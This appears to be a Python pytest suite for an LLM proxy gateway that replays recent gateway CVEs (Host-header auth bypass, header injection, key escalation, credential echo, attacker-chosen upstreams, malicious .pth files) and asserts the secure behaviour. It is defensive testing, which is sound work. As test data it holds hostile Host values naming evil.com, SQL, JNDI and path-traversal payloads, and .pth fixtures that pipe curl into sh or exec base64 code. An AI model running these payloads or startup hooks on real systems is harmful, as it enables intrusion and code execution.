"""The lessons of the 2025-2026 LLM gateway CVEs, each replayed against a served gateway (moto
for AWS, the OpenAI-format double upstream) or the build, asserting the secure behaviour.

1. Authorization decided on a Host-rebuilt URL (LiteLLM CVE-2026-49468; Starlette's BadHost,
   CVE-2026-48710).
2. An injection built from the Authorization value in an error path (CVE-2026-42208).
3. Config mutation or process spawning reachable from the data plane (CVE-2026-35029,
   CVE-2026-42271).
4. A key able to grant more than its creator has (CVE-2026-47101, CVE-2026-47102).
5. Credentials echoed in errors (LiteLLM #18731: an expired key in `param`).
6. Client-chosen upstream hosts (CVE-2024-6587; Portkey CVE-2025-66405).
7. A compromised release that runs code at interpreter start through a `.pth` file (litellm
   1.82.7 and 1.82.8), and the hash-checked lock that keeps such a release out.
"""

from __future__ import annotations

import ast
import base64
import json
import logging
import re
import socket
import subprocess
import sys
import sysconfig
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from importlib.metadata import version
from pathlib import Path
from types import ModuleType
from typing import Any
from urllib.parse import urlsplit

import boto3
import httpx
import pytest
from llm_proxy.access.key_record import VirtualKey, token_of
from llm_proxy.http.lambda_events import with_routed_host
from llm_proxy.logs import LITELLM_LOGGERS, SERVICE
from starlette.routing import Route
from starlette.types import Receive, Scope, Send

from devstack.doubles.openai_upstream import OpenAIUpstream
from devstack.server import BackgroundServer
from tests.support.configs import (
    MASTER_KEY_FROM_SECRET,
    NO_RETRIES,
    gateway_config,
    openai_double,
)
from tests.support.gateway_http import new_key
from tests.support.paths import REPO
from tests.support.stack import MASTER_KEY

CONFIG = gateway_config(
    openai_double("gpt-4"),
    openai_double("embed", "openai/text-embedding-3-small"),
    router_settings=NO_RETRIES,
    general_settings=MASTER_KEY_FROM_SECRET,
)
QUESTION = [{"role": "user", "content": "Say hi"}]


@pytest.fixture(scope="module")
def url(gateway_for: Callable[..., str]) -> str:
    return gateway_for(CONFIG)


class Records(logging.Handler):
    """Every record of the gateway's loggers (after their redaction filter), with its extras."""

    def __init__(self) -> None:
        super().__init__()
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(json.dumps(vars(record), default=str))

    @property
    def text(self) -> str:
        return "\n".join(self.lines)


@pytest.fixture
def logs() -> Iterator[Records]:
    records = Records()
    loggers = [logging.getLogger(name) for name in (SERVICE, *LITELLM_LOGGERS, "uvicorn.error")]
    for each in loggers:
        each.addHandler(records)
    yield records
    for each in loggers:
        each.removeHandler(records)


def call(
    url: str, method: str, path: str, body: Any = None, key: str | None = MASTER_KEY, **headers: str
) -> httpx.Response:
    content = None if body is None else body if isinstance(body, str) else json.dumps(body)
    sent = {"Content-Type": "application/json", **headers}
    if key is not None:
        sent["Authorization"] = f"Bearer {key}"
    return httpx.request(method, f"{url}{path}", content=content, headers=sent, timeout=30)


def error_code(response: httpx.Response) -> str:
    return str(response.json()["error"]["code"])


@dataclass
class Raw:
    status: int
    head: bytes
    body: bytes


def raw_request(
    url: str,
    method: str,
    target: str,
    headers: list[tuple[str, bytes]],
    body: bytes = b"",
) -> Raw:
    """One request written byte for byte on a socket: request lines and headers that httpx
    would normalise or refuse to send."""
    parts = urlsplit(url)
    lines = [f"{method} {target} HTTP/1.1".encode("latin-1")]
    lines += [name.encode() + b": " + value for name, value in headers]
    lines += [b"Content-Length: %d" % len(body), b"Connection: close", b"", b""]
    with socket.create_connection((parts.hostname, parts.port), timeout=30) as sock:
        sock.sendall(b"\r\n".join(lines) + body)
        received = b""
        while chunk := sock.recv(65536):
            received += chunk
    head, _, rest = received.partition(b"\r\n\r\n")
    return Raw(int(head.split(b" ", 2)[1]), head, rest)


def host_header(url: str) -> tuple[str, bytes]:
    return ("Host", (urlsplit(url).netloc).encode())


# -- 1. Authorization on a Host-rebuilt URL ----------------------------------------------------

# The first release of Starlette that validates the Host header before rebuilding request.url
# (GHSA-86qp-5c8j-p5mr / PYSEC-2026-161: "Fixed 1.0.1").
STARLETTE_FIXED = (1, 0, 1)
HOSTILE_HOSTS = [
    b"evil.com/v1/models?",
    b"evil.com/health?",
    b"127.0.0.1:1@x",
    b"x/health#",
    b"evil.com\\health",
    b"localhost:80/health?x=",
    b"",
]
# (method, request target): each aims at a route that needs a key.
HOSTILE_TARGETS = [
    ("GET", "/v1/models"),
    ("GET", "/key/list"),
    ("POST", "/key/generate"),
    ("GET", "http://x/v1/models"),
    ("GET", "http://127.0.0.1/key/list"),
    ("GET", "http://x/health/../v1/models"),
    ("GET", "v1/models"),
    ("GET", "//v1/models"),
    ("POST", "//key/generate"),
    ("POST", "/v1/../key/generate"),
    ("POST", "/health/../key/generate"),
    ("POST", "%2Fkey%2Fgenerate"),
    ("POST", "/%2Fkey%2Fgenerate"),
    ("POST", "/key%2Fgenerate"),
    ("POST", "/key/generate%00"),
    ("GET", "/v1/models#/health"),
    ("GET", "*"),
]


def version_tuple(text: str) -> tuple[int, ...]:
    return tuple(int(part) for part in re.findall(r"\d+", text)[:3])


def locked_version(lock: Path, name: str) -> str:
    found = re.search(rf"^{re.escape(name)}==(\S+)", lock.read_text(), re.MULTILINE)
    assert found, f"{name} is not pinned in {lock}"
    return found.group(1)


@pytest.mark.parametrize("lock", ["layers/deps/requirements.txt", "requirements-dev.txt"])
def test_the_locked_starlette_validates_the_host_header(lock: str) -> None:
    assert version_tuple(locked_version(REPO / lock, "starlette")) >= STARLETTE_FIXED
    assert version_tuple(version("starlette")) >= STARLETTE_FIXED


@pytest.mark.parametrize("host", HOSTILE_HOSTS)
@pytest.mark.parametrize(("method", "target"), HOSTILE_TARGETS)
def test_a_hostile_request_line_reaches_no_route_without_a_key(
    url: str, method: str, target: str, host: bytes
) -> None:
    answer = raw_request(url, method, target, [("Host", host)], b"{}")
    assert answer.status in (400, 401, 404), answer
    assert b'"data"' not in answer.body and b'"key"' not in answer.body
    if answer.status == 401:
        assert json.loads(answer.body)["error"]["code"] == "invalid_api_key"


@pytest.mark.parametrize("host", HOSTILE_HOSTS)
def test_a_hostile_host_gets_no_master_route_for_a_virtual_key(url: str, host: bytes) -> None:
    key = new_key(url)
    auth = ("Authorization", f"Bearer {key}".encode())
    for method, target in (("GET", "/key/list"), ("POST", "/key/generate")):
        answer = raw_request(url, method, target, [("Host", host), auth], b"{}")
        assert answer.status == 403, answer
        assert json.loads(answer.body)["error"]["code"] == "master_key_required"


def api_gateway_event(path: str, host: str) -> dict[str, Any]:
    """events/list_models.json for another path and Host header, without a key."""
    event: dict[str, Any] = json.loads((REPO / "events" / "list_models.json").read_text())
    headers = {name: value for name, value in event["headers"].items() if name != "Authorization"}
    headers["Host"] = host
    event["headers"] = headers
    event["multiValueHeaders"] = {name: [value] for name, value in headers.items()}
    event["path"] = path
    event["pathParameters"] = {"proxy": path.lstrip("/")}
    return event


@pytest.mark.parametrize("host", [host.decode() for host in HOSTILE_HOSTS])
def test_a_hostile_host_reaches_no_route_through_the_lambda_handler(
    api: ModuleType, host: str
) -> None:
    for path in ("/v1/models", "/key/list", "//key/list", "/v1/../key/list", "/key%2Flist"):
        response = api.handler(api_gateway_event(path, host), None)
        assert response["statusCode"] in (401, 404), (path, response)
        assert '"data"' not in response["body"]


def test_the_lambda_handler_gives_the_app_the_host_api_gateway_routed_on() -> None:
    event = api_gateway_event("/v1/models", "127.0.0.1:1@x")
    routed = with_routed_host(event)
    domain = event["requestContext"]["domainName"]
    assert routed["headers"]["Host"] == domain and routed["multiValueHeaders"]["Host"] == [domain]
    assert event["headers"]["Host"] == "127.0.0.1:1@x"  # the event itself is left as it came


def test_a_hostile_host_does_not_rewrite_the_path_the_gateway_sees(url: str) -> None:
    """What BadHost did: request.url.path taken from the Host header. The 404 names the path
    that was requested, not one the Host header smuggled in."""
    answer = raw_request(url, "GET", "/no-such-route", [("Host", b"evil.com/v1/models?")])
    assert answer.status == 404
    message = json.loads(answer.body)["error"]["message"]
    assert "/no-such-route" in message and "evil" not in message


# -- 2. The Authorization value in an error path -----------------------------------------------

INJECTIONS = [
    "'",
    '"',
    "' OR 1=1 --",
    "' OR '1'='1",
    '" OR ""="',
    "'; DROP TABLE keys; --",
    "1; SELECT * FROM keys",
    "%27%20OR%201%3D1",
    "${jndi:ldap://127.0.0.1/x}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "\\",
    "\\x00",
    "sk-" + "A" * 4000,
    "B" * 9000,
    "sk-\u00fcn\u00efc\u00f6d\u00e9-\u043a\u043b\u044e\u0447-\U0001f511",
    "sk-1234",
    "sk-",
    "null",
    "undefined",
    "[object Object]",
    "$(id)",
    "`id`",
    "../../etc/passwd",
    "\x00",
    "\x01\x02",
    "\x1b[31mred",
    "\x7f",
    "a\tb",
]
SCHEMES = ["Bearer ", "bearer ", "BEARER ", "Bearer  ", "Bearer\t", "Token ", "", "Bearer"]
# (method, path, the body that route would take)
AUTH_ROUTES: list[tuple[str, str, Any]] = [
    ("GET", "/v1/models", None),
    ("POST", "/v1/chat/completions", {"model": "gpt-4", "messages": QUESTION}),
    ("POST", "/v1/messages", {"model": "gpt-4", "max_tokens": 5, "messages": QUESTION}),
    ("POST", "/v1/embeddings", {"model": "embed", "input": "hi"}),
    ("POST", "/key/generate", {}),
]


# What HTTP allows in a header value (RFC 9110 5.5): visible characters, obs-text, blanks.
FIELD_VALUE = re.compile(rb"[\x20\x09\x21-\x7e\x80-\xff]*")


def field_value_ok(value: bytes) -> bool:
    """Whether HTTP allows the value; the HTTP server refuses any other before the app."""
    return FIELD_VALUE.fullmatch(value) is not None


def fuzzed_headers() -> Iterator[tuple[str, list[tuple[str, bytes]]]]:
    """(a marker, the headers): a few hundred Authorization, x-api-key and api-key values, each
    carrying its own marker where it has room for one."""
    for index, payload in enumerate(INJECTIONS):
        marker = f"Zq{index:03d}Qj"
        value = f"{payload}{marker}".encode()
        for scheme in SCHEMES:
            yield marker, [("Authorization", scheme.encode() + value)]
        yield marker, [("x-api-key", value)]
        yield marker, [("api-key", value)]
        yield marker, [("X-Api-Key", b"Bearer " + value)]
        yield marker, [("Authorization", b"Basic " + base64.b64encode(b"user:" + value))]
        yield marker, [("Authorization", b"Bearer " + value), ("Authorization", b"Bearer x")]
        yield marker, [("Authorization", b"Bearer " + value), ("x-api-key", value)]
    for empty in (b"", b"Bearer", b"Bearer ", b"Bearer    ", b"Basic", b" "):
        yield "", [("Authorization", empty)]
        yield "", [("x-api-key", empty)]


def test_the_authorization_header_fuzzed_only_ever_gets_401(url: str, logs: Records) -> None:
    seen = 0
    for index, (marker, headers) in enumerate(fuzzed_headers()):
        method, path, body = AUTH_ROUTES[index % len(AUTH_ROUTES)]
        sent = [host_header(url), ("Content-Type", b"application/json"), *headers]
        encoded = b"" if body is None else json.dumps(body).encode()
        answer = raw_request(url, method, path, sent, encoded)
        valid = all(field_value_ok(value) for _, value in headers)
        case = f"{method} {path} {headers!r:.200}: {answer.status} {answer.body[:200]!r}"
        # Values HTTP does not allow (control characters) are refused by the HTTP server
        # before the app: 400, never a 5xx.
        assert answer.status in ({401} if valid else {400, 401}), case
        if marker:
            assert marker.encode() not in answer.head + answer.body, case
        for _, value in headers:
            if len(value) >= 12:
                assert value not in answer.head + answer.body, case
        if answer.status == 401:
            error = json.loads(answer.body)["error"]
            assert error["code"] == "invalid_api_key", case
            assert error["param"] is None, case
            if path == "/v1/messages":
                assert json.loads(answer.body)["type"] == "error", case
        seen += 1
    assert seen >= 300
    assert '"status": 401' in logs.text  # the access log lines are seen
    assert not re.findall(r"Zq\d{3}Qj", logs.text)


# -- 3. Config mutation or process spawning from the data plane --------------------------------

# What a virtual key may call: the completion APIs, reading the models, its own key's info.
DATA_PLANE = frozenset(
    {
        "/v1/models",
        "/models",
        "/v1/model/info",
        "/model/info",
        "/v1/chat/completions",
        "/chat/completions",
        "/openai/deployments/{deployment}/chat/completions",
        "/openai/deployments/{deployment}/embeddings",
        "/v1/embeddings",
        "/embeddings",
        "/v1/messages",
        "/messages",
        "/v1/messages/count_tokens",
        "/messages/count_tokens",
        "/v1/responses",
        "/responses",
        "/v1/responses/input_tokens",
        "/responses/input_tokens",
        "/v1/responses/{response_id}",
        "/responses/{response_id}",
        "/v1/responses/{response_id}/cancel",
        "/responses/{response_id}/cancel",
        "/v1/responses/{response_id}/input_items",
        "/responses/{response_id}/input_items",
        "/key/info",
    }
)
# No key needed: liveness, readiness, and the schema where the operator turned it on.
PUBLIC = frozenset(
    {
        "/health",
        "/health/liveliness",
        "/health/liveness",
        "/health/readiness",
        "/openapi.json",
        "/docs",
        "/docs/oauth2-redirect",
    }
)
# The LiteLLM proxy's routes that change its configuration, users, teams, budgets or keys:
# not served, or (teams and users) the master key's only.
LITELLM_MUTATIONS = [
    "/config/update",
    "/config/field/update",
    "/config/field/delete",
    "/config/callback/delete",
    "/model/new",
    "/model/update",
    "/model/delete",
    "/v1/model/new",
    "/global/spend/reset",
    "/user/new",
    "/user/update",
    "/user/delete",
    "/team/new",
    "/team/update",
    "/team/delete",
    "/team/member_add",
    "/organization/new",
    "/customer/new",
    "/end_user/new",
    "/budget/new",
    "/credentials",
    "/guardrails",
    "/cache/flushall",
    "/cache/delete",
    "/reload/model_cost_map",
    "/key/block",
    "/key/unblock",
    "/mcp-rest/tools/call",
    "/v1/mcp/server",
    "/spend/calculate",
]


def routes_of(routes: list[Any]) -> Iterator[Route]:
    """Every route, those of included routers too (FastAPI keeps an included router whole, as
    one entry of `app.routes`; the app adds none under a prefix)."""
    for route in routes:
        if isinstance(route, Route):
            yield route
        elif hasattr(route, "original_router"):
            yield from routes_of(route.original_router.routes)


def served_routes(app: Any) -> list[tuple[str, str]]:
    found = sorted(
        {
            (method, route.path)
            for route in routes_of(app.routes)
            for method in (route.methods or ()) - {"HEAD"}
        }
    )
    # The same routes the app itself answers errors for.
    assert {route.path for route in app.state.served_routes} <= {path for _, path in found}
    return found


def concrete(path: str) -> str:
    return re.sub(r"\{[^}]+\}", "x", path)


def test_every_route_is_data_plane_public_or_refuses_a_virtual_key(
    api: ModuleType, gateway_url: str
) -> None:
    routes = served_routes(api.app)
    key = new_key(gateway_url)
    control = [(method, path) for method, path in routes if path not in DATA_PLANE | PUBLIC]
    # Key management and the spend report at least: the test cannot pass for want of routes.
    assert {"/key/generate", "/key/update", "/key/delete", "/key/list", "/spend/report"} <= {
        path for _, path in control
    }
    for method, path in control:
        answer = call(gateway_url, method, concrete(path), {}, key)
        if answer.status_code in (404, 405):
            # A catch-all that answers a path's errors in its API's envelope serves nothing,
            # not even to the master key.
            assert call(gateway_url, method, concrete(path), {}).status_code in (404, 405)
            continue
        assert answer.status_code in (401, 403), (method, path, answer.text)
    # Every data-plane route needs a key.
    for method, path in routes:
        if path in DATA_PLANE:
            answer = call(gateway_url, method, concrete(path), {}, None)
            assert answer.status_code == 401, (method, path, answer.text)


def test_a_virtual_key_reads_only_its_own_key(url: str) -> None:
    mine, other = new_key(url), new_key(url)
    assert call(url, "GET", "/key/info", key=mine).status_code == 200
    answer = call(url, "GET", f"/key/info?key={other}", key=mine)
    assert answer.status_code == 403 and error_code(answer) == "master_key_required"


@pytest.mark.parametrize("path", LITELLM_MUTATIONS)
def test_litellms_config_mutation_routes_are_not_served(url: str, path: str) -> None:
    key = new_key(url)
    body = {"model_name": "x", "litellm_params": {"model": "openai/x", "api_base": "http://x"}}
    for method in ("POST", "PUT", "PATCH", "DELETE", "GET"):
        for who in (key, None):
            answer = call(url, method, path, body, who)
            assert answer.status_code in (401, 403, 404, 405), (method, path, answer.text)


SPAWNING_MODULES = frozenset({"subprocess", "multiprocessing", "pty", "pexpect", "sh"})
SPAWNING_CALLS = re.compile(
    r"(os\.(system|popen|exec\w*|spawn\w*|fork\w*|posix_spawn\w*)|asyncio\.create_subprocess_\w+)"
)


def names_used(node: ast.AST) -> list[str]:
    """The dotted names an import or an attribute of a plain name refers to."""
    if isinstance(node, ast.Import):
        return [alias.name for alias in node.names]
    if isinstance(node, ast.ImportFrom):
        module = node.module or ""
        return [module, *(f"{module}.{alias.name}" for alias in node.names)]
    if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
        return [f"{node.value.id}.{node.attr}"]
    return []


def spawning(tree: ast.AST) -> list[str]:
    return [
        f"{getattr(node, 'lineno', 0)}: {name}"
        for node in ast.walk(tree)
        for name in names_used(node)
        if name.split(".")[0] in SPAWNING_MODULES or SPAWNING_CALLS.fullmatch(name)
    ]


def test_no_http_module_starts_a_process() -> None:
    offenders = [
        f"{path.relative_to(REPO)}:{found}"
        for path in sorted((REPO / "layers/core/llm_proxy/http").rglob("*.py"))
        for found in spawning(ast.parse(path.read_text(encoding="utf-8")))
    ]
    assert offenders == []
    # The check sees what it looks for.
    sample = (
        "import subprocess\nfrom os import system\nos.popen('id')\nasyncio.create_subprocess_exec()"
    )
    assert len(spawning(ast.parse(sample))) == 4


# -- 4. A key granting more than its creator has ------------------------------------------------

KEY_ADMIN_PATHS = [
    "/key/generate",
    "/key/update",
    "/key/delete",
    "/key/regenerate",
    "/key/{own}/regenerate",
    "/v1/key/generate",
    "/v1/key/update",
    "/v1/key/delete",
    "/v1/key/regenerate",
]
# Those the gateway serves (to the master key); the others are LiteLLM's, not served here.
SERVED_KEY_ADMIN = {
    "/key/generate",
    "/key/update",
    "/key/delete",
    "/key/regenerate",
    "/key/{own}/regenerate",
}


def escalations(own: str) -> list[Any]:
    return [
        {},
        {"max_budget": 1_000_000},
        {"models": ["*"]},
        {"models": ["*"], "max_budget": None, "rpm_limit": None, "tpm_limit": None},
        {"key": own, "max_budget": 1_000_000, "models": ["*"], "rpm_limit": 1_000_000},
        {"key": own, "blocked": False, "duration": None},
        {"keys": [own]},
        {"key": own, "metadata": {"role": "admin"}, "user_id": "admin"},
        {"max_budget": "unlimited"},
        {"max_budget": 1e308},
        "[]",
        '"a string"',
    ]


def test_only_the_master_key_manages_keys(url: str) -> None:
    own = new_key(url, max_budget=1.0, models=["gpt-4"], rpm_limit=5)
    before = call(url, "GET", f"/key/info?key={own}").json()["info"]
    listed = call(url, "GET", "/key/list?size=100").json()
    for path in KEY_ADMIN_PATHS:
        for body in escalations(own):
            answer = call(url, "POST", path.format(own=own), body, own)
            case = (path, body, answer.status_code, answer.text[:200])
            if path in SERVED_KEY_ADMIN:
                assert answer.status_code == 403, case
                assert error_code(answer) == "master_key_required", case
            else:
                assert answer.status_code == 404, case
            assert own not in answer.text
    after = call(url, "GET", f"/key/info?key={own}").json()["info"]
    limits = ("max_budget", "models", "rpm_limit", "tpm_limit", "blocked", "expires", "metadata")
    assert {name: after.get(name) for name in limits} == {name: before.get(name) for name in limits}
    assert call(url, "GET", "/key/list?size=100").json()["total_count"] == listed["total_count"]


@pytest.mark.parametrize(
    ("path", "virtual"), [("/key/generate", True), ("/v1/chat/completions", False)]
)
def test_a_body_that_is_not_json_is_refused_by_the_key_first(
    url: str, path: str, virtual: bool
) -> None:
    """A virtual key on a master-key route: 403; no key on a data-plane route: 401."""
    who = new_key(url) if virtual else None
    answer = call(url, "POST", path, "not json", who)
    assert answer.status_code == (403 if virtual else 401), answer.text


@pytest.mark.parametrize(
    ("path", "status"),
    [("/key/{own}/regenerate", 403), ("/v1/key/{own}/regenerate", 404), ("/key/{own}/x", 404)],
)
def test_a_key_in_a_path_is_not_echoed(url: str, path: str, status: int) -> None:
    """LiteLLM's /key/{key}/regenerate puts a key in the path: neither the refusal of a
    virtual key nor a 404 shows it; the key is unchanged."""
    own = new_key(url)
    answer = call(url, "POST", path.format(own=own), {}, own)
    assert answer.status_code == status, answer.text
    assert not {part for part in windows(own) if part in answer.text}
    assert call(url, "GET", "/key/info", key=own).status_code == 200


def test_a_key_cannot_raise_its_own_limits_through_its_own_requests(
    url: str, upstream: OpenAIUpstream
) -> None:
    own = new_key(url, max_budget=0.5, models=["gpt-4"])
    body = {"model": "gpt-4", "messages": QUESTION, "max_tokens": 5}
    for raised in (
        {"max_budget": 1_000_000},
        {"metadata": {"max_budget": 1_000_000}},
        {"user_api_key_max_budget": 1_000_000},
        {"user_api_key_metadata": {"models": ["*"]}},
        {"litellm_metadata": {"user_api_key_rpm_limit": 1_000_000}},
        {"extra_body": {"max_budget": 1_000_000}},
    ):
        refused = call(url, "POST", "/v1/chat/completions", {**body, **raised}, own)
        assert refused.status_code == 400, (raised, refused.text)
    assert upstream.requests == []
    info = call(url, "GET", f"/key/info?key={own}").json()["info"]
    assert info["max_budget"] == 0.5 and info["models"] == ["gpt-4"]


# -- 5. No error echoes a credential ------------------------------------------------------------


def windows(secret: str, size: int = 10) -> set[str]:
    return {secret[start : start + size] for start in range(len(secret) - size + 1)}


def stored_key(aws: dict[str, str], **fields: Any) -> str:
    """A key written to the keys table directly, as one made long ago could be."""
    raw = f"sk-{uuid.uuid4().hex}"
    key = VirtualKey(token=token_of(raw), key_name=f"{raw[:5]}...{raw[-4:]}", **fields)
    boto3.resource("dynamodb").Table(aws["KeysTable"]).put_item(Item=key.to_item())
    return raw


def refused_credentials(url: str, aws: dict[str, str]) -> dict[str, str]:
    past = (datetime.now(UTC) - timedelta(hours=1)).isoformat()
    deleted = new_key(url)
    assert call(url, "POST", "/key/delete", {"keys": [deleted]}).status_code == 200
    blocked = new_key(url)
    assert call(url, "POST", "/key/update", {"key": blocked, "blocked": True}).status_code == 200
    return {
        "expired": stored_key(aws, expires=past),
        "deleted": deleted,
        "blocked": blocked,
        "blocked in the table": stored_key(aws, blocked=True),
        "wrong": f"sk-{uuid.uuid4().hex}",
        "master key, last character wrong": MASTER_KEY[:-1] + "X",
        "master key, one character more": MASTER_KEY + "0",
        "master key, upper case": MASTER_KEY.upper(),
        "master key, one character fewer": MASTER_KEY[1:],
    }


ECHO_ROUTES = [
    ("GET", "/v1/models", None),
    ("GET", "/key/info", None),
    ("POST", "/v1/chat/completions", {"model": "gpt-4", "messages": QUESTION}),
    ("POST", "/v1/messages", {"model": "gpt-4", "max_tokens": 5, "messages": QUESTION}),
    ("POST", "/v1/responses", {"model": "gpt-4", "input": "hi"}),
    ("POST", "/v1/embeddings", {"model": "embed", "input": "hi"}),
    ("POST", "/key/generate", {}),
]


def test_no_error_echoes_a_credential(
    url: str, aws: dict[str, str], upstream: OpenAIUpstream, logs: Records
) -> None:
    credentials = refused_credentials(url, aws)
    for kind, credential in credentials.items():
        secret_parts = windows(credential) | windows(MASTER_KEY)
        for method, path, body in ECHO_ROUTES:
            for header, value in (
                ("Authorization", f"Bearer {credential}"),
                ("x-api-key", credential),
                ("api-key", credential),
            ):
                answer = httpx.request(
                    method,
                    f"{url}{path}",
                    json=body,
                    headers={header: value},
                    timeout=30,
                )
                case = (kind, method, path, header, answer.status_code, answer.text[:300])
                assert answer.status_code == 401, case
                shown = answer.text + json.dumps(dict(answer.headers))
                assert not {part for part in secret_parts if part in shown}, case
                assert answer.json()["error"]["param"] is None, case
    assert upstream.requests == []
    # Nor does any log line.
    assert '"status": 401' in logs.text  # the access log lines are seen
    for credential in credentials.values():
        parts = windows(credential) | windows(MASTER_KEY)
        assert not {part for part in parts if part in logs.text}


# -- 6. Client-chosen upstream hosts -------------------------------------------------------------


@dataclass
class Attacker:
    """A loopback server standing for a host a caller would like the gateway to call: it
    records every request, whatever its path or method."""

    requests: list[str] = field(default_factory=list)

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            return
        self.requests.append(f"{scope['method']} {scope['path']}")
        headers = [(b"content-type", b"application/json")]
        await send({"type": "http.response.start", "status": 200, "headers": headers})
        await send({"type": "http.response.body", "body": b"{}"})


@pytest.fixture(scope="module")
def attacker() -> Iterator[tuple[Attacker, str]]:
    app = Attacker()
    server = BackgroundServer(app).start()
    yield app, server.url
    server.stop()


# (path, a request that path serves)
APIS = [
    ("/v1/chat/completions", {"model": "gpt-4", "messages": QUESTION, "max_tokens": 5}),
    ("/v1/messages", {"model": "gpt-4", "max_tokens": 5, "messages": QUESTION}),
    ("/v1/responses", {"model": "gpt-4", "input": "Say hi", "max_output_tokens": 16}),
    ("/v1/embeddings", {"model": "embed", "input": "hi"}),
]


def upstream_choices(base: str) -> list[dict[str, Any]]:
    return [
        {"api_base": base},
        {"base_url": base},
        {"api_key": "sk-attacker-chosen"},
        {"custom_llm_provider": "openai"},
        {"api_version": "2024-01-01"},
        {"azure_endpoint": base},
        {"organization": "org-attacker"},
        {"extra_body": {"api_base": base}},
        {"extra_body": {"base_url": base}},
        {"metadata": {"api_base": base}},
        {"litellm_params": {"api_base": base}},
        {"model_list": [{"model_name": "gpt-4", "litellm_params": {"api_base": base}}]},
    ]


def upstream_headers(base: str) -> list[dict[str, str]]:
    return [
        {"x-portkey-provider": "openai", "x-portkey-custom-host": base},
        {"x-portkey-config": json.dumps({"provider": "openai", "custom_host": base})},
        {"x-portkey-api-key": "sk-attacker-chosen"},
        {"x-litellm-api-base": base, "x-litellm-custom-llm-provider": "openai"},
        {"api_base": base, "base_url": base},
        {"x-api-base": base, "x-forwarded-host": urlsplit(base).netloc},
        {"x-forwarded-proto": "http", "x-original-url": f"{base}/v1/chat/completions"},
    ]


@pytest.mark.parametrize(("path", "body"), APIS, ids=[path for path, _ in APIS])
def test_a_caller_cannot_choose_the_upstream_in_the_body(
    url: str, upstream: OpenAIUpstream, attacker: tuple[Attacker, str], path: str, body: Any
) -> None:
    server, base = attacker
    for choice in upstream_choices(base):
        answer = call(url, "POST", path, {**body, **choice})
        assert answer.status_code == 400, (choice, answer.text)
        assert error_code(answer) in ("unsupported_parameter", "invalid_value"), answer.text
        assert ("type" in answer.json()) == (path == "/v1/messages")  # Anthropic's envelope
        assert base not in answer.text
    assert server.requests == []
    assert upstream.requests == []


@pytest.mark.parametrize(("path", "body"), APIS, ids=[path for path, _ in APIS])
def test_a_caller_cannot_choose_the_upstream_in_headers(
    url: str, upstream: OpenAIUpstream, attacker: tuple[Attacker, str], path: str, body: Any
) -> None:
    server, base = attacker
    for headers in upstream_headers(base):
        answer = call(url, "POST", path, body, **headers)
        assert answer.status_code == 200, (headers, answer.text)
    assert server.requests == []
    # Each request went to the operator's upstream, with none of those headers.
    assert len(upstream.requests) == len(upstream_headers(base))
    for request in upstream.requests:
        sent = json.dumps(request.headers).lower()
        assert (
            urlsplit(base).netloc not in sent and "attacker" not in sent and "portkey" not in sent
        )


# -- 7. Code run at interpreter start; the hash-checked lock ------------------------------------

PTH_CHECK = REPO / "scripts" / "pth_check.py"
LOCKS = [
    "layers/deps/requirements.txt",
    "layers/ops/requirements.txt",
    "requirements-dev.txt",
    "scripts/bench/litellm-proxy-requirements.txt",
]
# The litellm releases that shipped a .pth file running code at start.
COMPROMISED_LITELLM = {"1.82.7", "1.82.8"}
SETUPTOOLS_HOOK = (
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
    "'local'; enabled and __import__('_distutils_hack').add_shim(); \n"
)


def pth_check(*folders: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-I", str(PTH_CHECK), *map(str, folders)],
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
    )


def fake_site(root: Path, **files: str) -> Path:
    site = root / "python"
    (site / "pkg-1.0.dist-info").mkdir(parents=True)
    (site / "pkg").mkdir()
    (site / "pkg" / "__init__.py").write_text("")
    for name, text in files.items():
        (site / name).write_text(text)
    return site


@pytest.mark.parametrize(
    "text",
    [
        "import os; os.system('curl http://127.0.0.1:9/x | sh')\n",
        "/some/path\nimport base64; exec(base64.b64decode('cHJpbnQoMSk='))\n",
        "  import\tsubprocess\n",
    ],
)
def test_a_pth_file_that_runs_code_fails_the_check(tmp_path: Path, text: str) -> None:
    site = fake_site(tmp_path, **{"litellm_init.pth": text})
    result = pth_check(site)
    assert result.returncode == 1
    assert "litellm_init.pth" in result.stderr


def test_a_harmless_name_with_other_content_fails_the_check(tmp_path: Path) -> None:
    site = fake_site(tmp_path, **{"distutils-precedence.pth": "import os; os.system('id')\n"})
    assert pth_check(site).returncode == 1


def test_path_lines_and_the_known_hooks_pass_the_check(tmp_path: Path) -> None:
    site = fake_site(
        tmp_path,
        **{
            "paths.pth": "# a comment\n/opt/extra\nimportant_dir\n",
            "distutils-precedence.pth": SETUPTOOLS_HOOK,
            "_virtualenv.pth": "import _virtualenv\n",
        },
    )
    assert pth_check(site).returncode == 0


def test_the_project_environment_passes_the_check() -> None:
    site = Path(sysconfig.get_paths()["purelib"])
    assert any(site.glob("*.dist-info"))
    result = pth_check(site)
    assert result.returncode == 0, result.stderr


def test_the_layer_build_stops_on_a_pth_file_that_runs_code(tmp_path: Path) -> None:
    """The call the deps build makes on what it installed (scripts/build_layer.py install)."""
    evil = fake_site(tmp_path / "evil", **{"evil.pth": "import os\n"})
    clean = fake_site(tmp_path / "clean", **{"paths.pth": "/opt/extra\n"})
    run = "import sys; from pathlib import Path; import build_layer; "
    run += "build_layer.refuse_startup_code(Path(sys.argv[1]))"
    for site, code in ((evil, 1), (clean, 0)):
        result = subprocess.run(
            [sys.executable, "-c", run, str(site)],
            cwd=REPO / "scripts",
            capture_output=True,
            text=True,
            check=False,
            timeout=120,
        )
        assert result.returncode == code, result.stderr
    source = ast.parse((REPO / "scripts" / "build_layer.py").read_text(encoding="utf-8"))
    install = next(
        node for node in source.body if isinstance(node, ast.FunctionDef) and node.name == "install"
    )
    called = {
        node.func.id
        for node in ast.walk(install)
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Name)
    }
    assert "refuse_startup_code" in called


@pytest.mark.parametrize("lock", LOCKS)
def test_every_locked_requirement_is_pinned_and_hashed(lock: str) -> None:
    entries: dict[str, list[str]] = {}
    current = ""
    for line in (REPO / lock).read_text(encoding="utf-8").splitlines():
        stripped = line.strip()
        if not stripped or stripped.startswith("#"):
            continue
